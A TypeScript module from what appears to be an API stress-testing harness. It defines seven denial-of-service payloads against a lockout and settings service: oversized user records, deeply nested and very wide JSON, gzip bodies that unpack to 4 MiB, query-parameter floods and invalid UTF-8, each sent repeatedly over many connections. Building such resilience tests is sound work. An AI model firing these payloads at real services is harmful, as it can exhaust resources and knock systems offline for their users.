import { gzipSync } from "node:zlib";
import type { Attack } from "../attack.ts";
import { bearer, request } from "../wire/http1.ts";
import { floodAll, json, repeat } from "../wire/load.ts";
import { field } from "../wire/messages.ts";

const settings = "/zitadel.settings.v2.SettingsService/GetLockoutSettings";

export const largeUsers: Attack = {
  name: "large-users",
  what: "PutUser with 250 kB of aliases, new ones each time, 16 at once.",
  role: "ORG_USER_MANAGER",
  run: (target, tally) => {
    let turn = 0;
    return repeat(target, tally, 16, (connection) => {
      turn += 1;
      const aliases = Array.from({ length: 1200 }, (_, index) =>
        `${connection}-${turn}-${index}-`.padEnd(195, "y"),
      );
      return request(
        "PUT",
        `/lockout/v1/users/huge-${connection}`,
        bearer(target.token),
        json({ aliases, state: "USER_STATE_ACTIVE" }),
      );
    });
  },
};

export const deepJson: Attack = {
  name: "deep-json",
  what: "JSON of 80,000 objects or arrays within each other, by REST and by Connect, on 8 connections.",
  role: "ORG_OWNER",
  run: (target, tally) => {
    const deep = [
      '{"client":'.repeat(20_000),
      "[".repeat(200_000),
      '{"a":'.repeat(40_000),
      `{"aliases":${"[".repeat(80_000)}`,
    ];
    const asked = deep.flatMap((text) =>
      ["/lockout/v1/attempts", "/lockout.v1.AttemptService/BeginAttempt"].map(
        (path) =>
          request("POST", path, bearer(target.token), Buffer.from(text)),
      ),
    );
    return repeat(
      target,
      tally,
      8,
      (index) => asked[index % asked.length] ?? Buffer.alloc(0),
    );
  },
};

export const wideJson: Attack = {
  name: "wide-json",
  what: "JSON of 240 kB with as many small values, numbers and escapes as fit, by REST and by Connect, on 8 connections.",
  role: "ORG_USER_MANAGER",
  run: (target, tally) => {
    const wide = [
      `{"aliases":[${Array(80_000).fill('""').join()}]}`,
      `{"aliases":["${"\\u0041".repeat(40_000)}"]}`,
      `{${Array.from({ length: 20_000 }, (_, index) => `"x${index}":1`).join()}}`,
      `{"aliases":${"9".repeat(240_000)}}`,
    ];
    const asked = wide.flatMap((text) => [
      request(
        "PUT",
        "/lockout/v1/users/wide",
        bearer(target.token),
        Buffer.from(text),
      ),
      request(
        "POST",
        "/lockout.v1.UserService/PutUser",
        bearer(target.token),
        Buffer.from(text),
      ),
    ]);
    return repeat(
      target,
      tally,
      8,
      (index) => asked[index % asked.length] ?? Buffer.alloc(0),
    );
  },
};

export const largeJson: Attack = {
  name: "large-json",
  what: "JSON that unpacks to 4 MiB, by REST and by Connect, on 16 connections.",
  role: "ORG_USER_MANAGER",
  run: (target, tally) => {
    const body = gzipSync(
      `{"aliases":[${Array(1_390_000).fill('""').join()}]}`,
    );
    const headers = { ...bearer(target.token), "content-encoding": "gzip" };
    const asked = [
      request("PUT", "/lockout/v1/users/wide", headers, body),
      request("POST", "/lockout.v1.UserService/PutUser", headers, body),
    ];
    return repeat(
      target,
      tally,
      16,
      (index) => asked[index % asked.length] ?? Buffer.alloc(0),
    );
  },
};

export const queryParameters: Attack = {
  name: "query-parameters",
  what: "Queries of 256 parameters, of deep names, and of 8 kB of escapes, without a pause, on 8 connections.",
  role: "ORG_OWNER_VIEWER",
  run: (target, tally) => {
    const queries = [
      Array(256).fill("ctx.orgId=a").join("&"),
      Array(250).fill("ctx.a.b.c.d.e.f=1").join("&"),
      `ctx.orgId=${"%41".repeat(2600)}`,
      "&".repeat(8000),
      `${"a.".repeat(3900)}=1`,
    ];
    const all = Buffer.concat(
      queries.map((query) =>
        request("GET", `/v2/settings/lockout?${query}`, bearer(target.token)),
      ),
    );
    return floodAll(target, tally, 8, () => all);
  },
};

export const connectGets: Attack = {
  name: "connect-gets",
  what: "Connect by GET with messages of 8 kB and with ones that unpack to 4 MiB, without a pause, on 8 connections.",
  role: "ORG_OWNER_VIEWER",
  run: (target, tally) => {
    const unpacked = gzipSync(
      field(1, field(1, Buffer.alloc(4 * 1024 * 1024 - 100, "a"))),
    ).toString("base64url");
    const queries = [
      `encoding=json&message=${encodeURIComponent(JSON.stringify({ ctx: { orgId: "a".repeat(7800) } }))}`,
      `encoding=proto&base64=1&compression=gzip&message=${unpacked}`,
      `encoding=json&message=${"%5B".repeat(2600)}`,
    ];
    const all = Buffer.concat(
      queries.map((query) =>
        request("GET", `${settings}?connect=v1&${query}`, bearer(target.token)),
      ),
    );
    return floodAll(target, tally, 8, () => all);
  },
};

export const invalidText: Attack = {
  name: "invalid-text",
  what: "Texts that are no UTF-8, in protobuf and JSON, up to 250 kB, on 8 connections.",
  role: "ORG_OWNER",
  run: (target, tally) => {
    const bad = Buffer.alloc(250_000, 0xff);
    const path = "/lockout.v1.AttemptService/BeginAttempt";
    const asked = [
      request(
        "POST",
        path,
        bearer(target.token, "application/proto"),
        field(2, bad),
      ),
      request(
        "POST",
        path,
        bearer(target.token),
        Buffer.concat([Buffer.from('{"loginName":"'), bad, Buffer.from('"}')]),
      ),
      request(
        "POST",
        "/lockout/v1/attempts",
        bearer(target.token),
        Buffer.from(`{"loginName":"${"\\ud800".repeat(40_000)}"}`),
      ),
    ];
    return repeat(
      target,
      tally,
      8,
      (index) => asked[index % asked.length] ?? Buffer.alloc(0),
    );
  },
};
